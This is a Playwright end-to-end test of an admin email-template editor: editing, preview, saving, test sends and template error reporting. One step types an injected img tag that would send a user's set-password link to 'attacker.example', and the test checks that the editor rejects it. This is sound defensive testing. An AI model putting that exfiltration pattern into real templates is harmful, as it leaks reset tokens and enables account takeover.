import { expect, expectAccessible, mainContent, test } from './fixtures.ts';
import { adminEventId, demo, inboxOf, logIn } from './helpers.ts';

const unique = () => `${Date.now()}${Math.floor(Math.random() * 1000)}`;

test("an admin edits the welcome email's subject, sees the preview follow, saves, sends a test, is shown a template error's line, and the next welcome uses the new subject", async ({
  page,
  request,
}) => {
  test.setTimeout(120_000);
  const id = unique();
  const eventId = await adminEventId(request);

  // From the admin landing page's card to the list.
  await logIn(page, demo.admin);
  await expect(page).toHaveURL(/\/$/);
  await page.goto('/admin');
  await page.getByRole('link', { name: 'Email templates' }).click();
  await expect(page).toHaveURL(/\/admin\/email-templates$/);
  await expect(page.getByRole('heading', { level: 1, name: 'Email Templates' })).toBeVisible();
  await expectAccessible(page, mainContent);
  await page.getByRole('link', { name: 'Welcome', exact: true }).click();

  // The view: the email as sent now, in a sandboxed frame.
  await expect(page).toHaveURL(/\/admin\/email-templates\/welcome$/);
  await expect(page.getByTitle('Email preview')).toBeVisible();
  await page.getByRole('link', { name: 'Edit' }).click();
  await expect(page).toHaveURL(/\/admin\/email-templates\/welcome\/edit$/);
  await expectAccessible(page, mainContent);

  // The subject changes, and the preview follows with the sample data.
  const subject = page.getByRole('textbox', { name: 'Subject' });
  await subject.fill(`Welcome aboard, {{ firstName }} (${id})`);
  await expect(page.getByTestId('preview-subject')).toHaveText(`Welcome aboard, Alex (${id})`);

  // A variable goes in where the cursor is.
  const body = page.getByRole('textbox', { name: 'Body' });
  await body.click();
  await body.press('Control+End');
  await page.getByRole('button', { name: '{{ teamName }}' }).click();
  await expect(body).toHaveValue(/\{\{ teamName \}\}$/);
  await expect(page.getByTitle('Email preview')).toBeVisible();

  await page.getByRole('button', { name: 'Save email template' }).click();
  await expect(page.getByText('The email template was saved')).toBeVisible();

  // A test goes to the admin's own address.
  await page.getByRole('button', { name: 'Send a test to me' }).click();
  await expect(page.getByText(`A test email is on its way to ${demo.admin}`)).toBeVisible();
  await expect(async () => {
    const mails = await inboxOf(request, demo.admin);
    expect(mails.map((m) => m.subject)).toContain(`[Test] Welcome aboard, Alex (${id})`);
  }).toPass({ timeout: 20_000 });

  // A template that does not parse: the preview and the save name the line; nothing is saved.
  await body.fill('<p>Hi {{ firstName }}</p>\n<p>{% if teamName %}open</p>');
  await expect(page.getByRole('alert').filter({ hasText: 'Body, line 2' })).toBeVisible();
  await expect(page.getByText(/Line 2, column \d+/).first()).toBeVisible();
  await page.getByRole('button', { name: 'Save email template' }).click();
  await expect(page.getByText(/Body, line 2, column \d+/).first()).toBeVisible();
  const saved = await request.get(`/api/v1/events/${eventId}/email-templates/welcome`);
  expect((await saved.json()).body).not.toContain('{% if teamName %}open');

  // The set-password link is the recipient's alone: it goes in only as its button, on its own.
  await body.fill(
    "<p>Hi {{ firstName }}</p>\n<img src='https://attacker.example/?{% button setPasswordUrl %}'>",
  );
  await expect(
    page
      .getByRole('alert')
      .filter({ hasText: 'Body, line 2, column 37: The button cannot be inside an attribute' }),
  ).toBeVisible();
  await body.fill('<p>Hi {{ firstName }}</p>\n');
  await body.press('Control+End');
  await page
    .getByRole('button', { name: '{% button setPasswordUrl "Set your password" %}' })
    .click();
  await expect(body).toHaveValue(/\{% button setPasswordUrl "Set your password" %\}$/);
  // The first save's toast has gone (on a quick run it can still be showing): the next is this save's.
  await expect(page.getByText('The email template was saved')).toHaveCount(0, { timeout: 15_000 });
  await page.getByRole('button', { name: 'Save email template' }).click();
  await expect(page.getByText('The email template was saved')).toBeVisible();
  await expectAccessible(page, mainContent);

  // The next welcome email uses the saved subject.
  const ownerEmail = `templates.${id}@example.com`;
  const created = await request.post(`/api/v1/events/${eventId}/teams`, {
    data: {
      name: `Template Team ${id}`,
      ownerEmail,
      ownerFirstName: 'Tess',
      ownerSurname: 'Owner',
    },
  });
  expect(created.status()).toBe(201);
  await expect(async () => {
    const mails = await inboxOf(request, ownerEmail);
    expect(mails.map((m) => m.subject)).toContain(`Welcome aboard, Tess (${id})`);
  }).toPass({ timeout: 20_000 });
});
